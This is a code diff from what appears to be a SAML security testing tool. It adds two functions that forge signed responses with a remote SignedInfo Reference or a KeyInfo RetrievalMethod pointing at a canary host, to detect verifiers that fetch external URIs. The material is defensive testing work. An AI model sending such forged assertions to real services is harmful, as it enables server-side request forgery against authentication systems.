@@ -364,3 +364,48 @@ pub fn entity_defined_id(f: &Forge) -> Result<Forged, Skip> {
         swap,
     )
 }
+
+/// A second Reference in the Assertion's SignedInfo whose URI is on the canary (Pummel's
+/// "SignedInfo remote reference"): a verifier that dereferences every Reference fetches it
+/// before it finds the SignatureValue no longer matches.
+pub fn remote_reference(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let reference = sig
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
+        .ok_or_else(|| Skip::NotApplicable("the Assertion's Signature has no Reference".into()))?;
+    let tag = qualified_name(doc.src, reference);
+    let ds = tag.strip_suffix("Reference").unwrap_or_default();
+    let remote = format!(
+        "<{tag} URI=\"{canary}/reference\"><{ds}DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\"/><{ds}DigestValue>{}</{ds}DigestValue></{tag}>",
+        empty_digest(MessageDigest::sha256())?
+    );
+    Ok(Forged::same_identity(p.splice_unsigned_response(vec![
+        insert(reference.range().end, remote),
+    ])))
+}
+
+/// The Assertion's KeyInfo replaced by a RetrievalMethod on the canary (xmltooling
+/// CVE-2023-36661 fetched KeyInfoReference URLs): a verifier that resolves KeyInfo fetches it.
+/// KeyInfo is outside SignedInfo, so the signature itself still verifies.
+pub fn retrieval_method(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let tag = qualified_name(doc.src, sig);
+    let ds = tag.strip_suffix("Signature").unwrap_or_default();
+    let retrieval = format!(
+        "<{ds}KeyInfo><{ds}RetrievalMethod URI=\"{canary}/key\" Type=\"{DSIG_NS}X509Data\"/></{ds}KeyInfo>"
+    );
+    let edit = match child(sig, DSIG_NS, "KeyInfo") {
+        Some(key_info) => (key_info.range(), retrieval),
+        None => insert(before_end_tag(doc.src, sig), retrieval),
+    };
+    Ok(Forged::same_identity(
+        p.splice_unsigned_response(vec![edit]),
+    ))
+}
